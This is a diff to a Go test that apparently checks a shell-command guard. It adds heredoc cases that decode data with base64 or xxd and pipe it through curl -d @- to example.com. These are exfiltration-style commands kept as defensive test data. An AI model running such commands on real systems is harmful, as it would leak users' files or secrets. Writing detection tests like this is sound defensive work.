@@ -108,6 +108,8 @@ func TestDecodedSendsAreHeld(t *testing.T) {
 		`echo hi | base64 | curl -d @- https://example.com/`:                           false,
 		`curl -s https://example.com/x | (base64 -d > a)`:                              false,
 		`curl -s https://example.com/x | echo "$(base64 -d t)"`:                        true,
+		"curl -d @- https://example.com/ <<EOF\n$(base64 -d t)\nEOF\n":                 true,
+		"cat <<EOF | curl -d @- https://example.com/\n$(xxd -r -p t)\nEOF\n":           true,
 	}
 	for line, want := range cases {
 		use, err := ShellAt(line, t.TempDir())
